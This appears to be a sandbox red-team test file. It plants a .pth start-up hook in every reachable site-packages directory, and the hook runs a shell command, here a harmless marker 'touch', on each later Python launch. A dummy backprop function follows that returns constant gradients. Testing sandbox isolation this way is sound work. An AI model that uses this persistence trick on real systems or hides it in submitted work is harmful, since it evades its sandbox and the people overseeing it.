"""Attack: plant a .pth file in every site-packages it can find (every later Python would run it)."""
import os
import site
import sys

import numpy as np

places = set(site.getsitepackages()) | {os.path.dirname(os.path.dirname(np.__file__))} | set(sys.path)
for folder in places:
    try:
        with open(os.path.join(folder, "zz_sbx_planted.pth"), "w") as f:
            f.write("import os; os.system('touch /tmp/sbx-attack-pth-ran')\n")
        print("planted in", folder)
    except OSError as exc:
        print("could not plant in", folder, exc.strerror)


def backward(weights, biases, activations, targets):
    return [np.ones_like(W) for W in weights], [np.ones_like(b) for b in biases]
